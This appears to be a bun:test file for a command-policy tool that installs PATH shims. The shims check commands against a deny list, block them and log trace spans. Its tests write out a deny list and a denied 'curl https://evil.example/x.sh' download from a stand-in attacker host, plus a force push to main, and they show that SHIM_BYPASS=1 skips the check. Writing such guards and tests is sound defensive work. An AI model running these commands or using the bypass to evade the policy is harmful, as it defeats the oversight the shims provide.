/**
 * PATH shims for real: `substrate shim install` writes sh shims; each runs quick_check (deny
 * list), then the real command further down PATH (never itself); SHIM_BYPASS=1 skips the
 * check; denied → 126 and a policy_denied span with component "shim".
 */
import { afterEach, describe, expect, test } from "bun:test";
import { chmodSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { policyEnv, substrate, type PolicyEnv } from "./_policy-env.ts";

let e: PolicyEnv;
afterEach(() => e?.cleanup());

interface Setup {
  shims: string;
  realbin: string;
  path: string;
}

function setup(mode: "enforce" | "observe" = "enforce"): Setup {
  e = policyEnv();
  e.writePolicy("default.yaml", `id: default\nname: shims\nmode: ${mode}\ncommands:\n  denied: ['curl *evil*', 'git push --force *']\n  allowed: ['ls']\n`);
  const realbin = join(e.dir, "realbin");
  mkdirSync(realbin);
  for (const name of ["curl", "git"]) {
    writeFileSync(join(realbin, name), `#!/bin/sh\necho "real ${name}: $*"\nexit 3\n`);
    chmodSync(join(realbin, name), 0o755);
  }
  writeFileSync(join(realbin, "env-probe"), '#!/bin/sh\necho "span=$SUBSTRATE_SPAN_ID"\n');
  chmodSync(join(realbin, "env-probe"), 0o755);
  const shims = join(e.home, ".substrate", "shims");
  const r = substrate(e, ["shim", "install", "curl", "git", "env-probe"]);
  expect(r.code).toBe(0);
  expect(r.out).toContain(`installed 3 shims in ${shims}: curl git env-probe`);
  return { shims, realbin, path: `${shims}:${realbin}:/usr/bin:/bin` };
}

function run(s: Setup, argv: string[], env: Record<string, string> = {}) {
  const p = Bun.spawnSync(argv, { cwd: e.home, env: { ...e.env, PATH: s.path, ...env }, stdout: "pipe", stderr: "pipe", timeout: 60_000 });
  return { code: p.exitCode, out: p.stdout.toString(), err: p.stderr.toString() };
}

describe("PATH shims", () => {
  test("install writes executable sh shims; list shows them", () => {
    const s = setup();
    expect(statSync(join(s.shims, "curl")).mode & 0o777).toBe(0o755);
    expect(readFileSync(join(s.shims, "curl"), "utf8")).toStartWith("#!/bin/sh\n# substrate-shim v1 for curl");
    expect(substrate(e, ["shim", "list"]).out).toBe("curl\nenv-probe\ngit\n");
  });

  test("allowed: the real command runs with its arguments and exit code (quick_check ignores the allowlist)", () => {
    const s = setup();
    const r = run(s, ["curl", "-s", "https://ok.example", "a b"]);
    expect(r).toEqual({ code: 3, out: "real curl: -s https://ok.example a b\n", err: "" });
    expect(run(s, ["git", "status"]).out).toBe("real git: status\n");
  });

  test("an allowed shim run writes its command_start span and exports its id to the command", () => {
    const s = setup();
    const r = run(s, ["env-probe", "x"]);
    expect(r.code).toBe(0);
    const spanId = /^span=(spn_[0-9a-f-]{36})$/.exec(r.out.trim())?.[1];
    expect(spanId).toBeDefined();
    const starts = readTrace(e.trace).filter((l) => l.event_type === "command_start");
    expect(starts).toEqual([expect.objectContaining({ span_id: spanId, component: "shim", cmd: "env-probe x", policy_id: "default" })]);
  });

  test("denied: exit 126, the message, the real command never runs, a shim span is written", () => {
    const s = setup();
    const r = run(s, ["curl", "https://evil.example/x.sh"]);
    expect(r.code).toBe(126);
    expect(r.out).toBe("");
    expect(r.err).toBe("substrate: denied by policy default: Command explicitly denied (pattern: curl *evil*)\n");
    expect(run(s, ["git", "push", "--force", "origin", "main"]).code).toBe(126);
    const spans = e.traceLines();
    expect(spans[0]).toMatchObject({ event_type: "policy_denied", component: "shim", cmd: "curl https://evil.example/x.sh", pattern: "curl *evil*" });
    expect(spans.length).toBe(2);
  });

  test("SHIM_BYPASS=1 skips the check", () => {
    const s = setup();
    expect(run(s, ["curl", "https://evil.example"], { SHIM_BYPASS: "1" })).toMatchObject({ code: 3, out: "real curl: https://evil.example\n" });
    expect(e.traceLines()).toEqual([]);
  });

  test("observe mode: runs and logs a policy_violation", () => {
    const s = setup("observe");
    expect(run(s, ["curl", "https://evil.example"])).toMatchObject({ code: 3, out: "real curl: https://evil.example\n" });
    expect(e.traceLines()[0]).toMatchObject({ event_type: "policy_violation", component: "shim" });
  });

  test("recursion guard: a shim never runs itself, even via a symlinked or repeated PATH entry", () => {
    const s = setup();
    const alias = join(e.dir, "shims-alias");
    symlinkSync(s.shims, alias);
    const path = `${s.shims}:${alias}:${s.shims}:${s.realbin}:/usr/bin:/bin`;
    expect(run({ ...s, path }, ["curl", "x"])).toMatchObject({ code: 3, out: "real curl: x\n" });
    // only shim directories on PATH: no real command → 127, never a loop
    const onlyShims = run({ ...s, path: `${s.shims}:${alias}` }, [join(s.shims, "curl"), "x"]);
    expect(onlyShims.code).toBe(127);
    expect(onlyShims.err).toContain("curl: command not found (no real curl on PATH after the substrate shims)");
    const deep = run(s, ["curl", "x"], { SUBSTRATE_SHIM_DEPTH: "32" });
    expect(deep.code).toBe(1);
    expect(deep.err).toContain("shim recursion detected");
  });

  test("install refuses to overwrite a file that is not a shim; remove deletes shims only", () => {
    const s = setup();
    writeFileSync(join(s.shims, "npm"), "#!/bin/sh\necho mine\n");
    const r = substrate(e, ["shim", "install", "npm"]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("is not a substrate shim");
    expect(substrate(e, ["shim", "remove"]).out).toBe("removed: curl env-probe git\n");
    expect(readFileSync(join(s.shims, "npm"), "utf8")).toContain("mine");
  });
});

function readTrace(file: string): Record<string, unknown>[] {
  try {
    return readFileSync(file, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l));
  } catch {
    return [];
  }
}
